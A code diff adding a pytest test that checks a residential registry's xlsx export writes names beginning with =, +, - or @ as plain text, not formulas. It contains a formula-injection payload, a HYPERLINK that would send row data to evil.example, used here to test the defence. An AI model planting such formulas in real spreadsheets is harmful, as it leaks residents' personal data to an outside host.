@@ -245,3 +245,24 @@ def test_export_is_capped_with_a_clear_message(client, tree, worker, registry, s
     assert resp.status_code == 400 and "一次最多导出 2 人" in resp.content.decode()
     resp = client.get(f"/api/v1/registry/export.xlsx?region={tree.liede_sq.code}")
     assert resp.status_code == 400 and resp.json()["error"]["code"] == "export_too_large"
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_export_writes_no_formula_whatever_the_names(client, tree, worker, registry, prefix):
+    """A resident, compound, building or household named like a formula exports as plain text,
+    masked or not (an unmasked export must not send other rows' ID numbers anywhere)."""
+    evil = prefix + 'HYPERLINK("http://evil.example/?"&B2&C2,"点此核对")'
+    hh = registry.household(tree.g_liede1, compound=prefix + "苑", building=prefix + "1栋", number=prefix + "101")
+    registry.resident(household=hh, name=evil, phone="13812345678")
+    client.force_login(worker)
+    for form in ({"region": tree.liede_sq.code},
+                 {"region": tree.liede_sq.code, "unmasked": "1", "purpose": "核对信息", "reason": "报送民政局年度核对"}):
+        resp = client.post("/registry/export/", form)
+        assert resp.status_code == 200
+        rows = list(load_workbook(io.BytesIO(resp.content)).active.iter_rows())
+        data = [c for c in rows[1] if c.value not in (None, "")]
+        assert data, "the row was exported"
+        for cell in data:
+            assert cell.data_type == "s", (cell.coordinate, cell.value)
+            assert not str(cell.value).startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
+        assert rows[1][0].value == "'" + evil
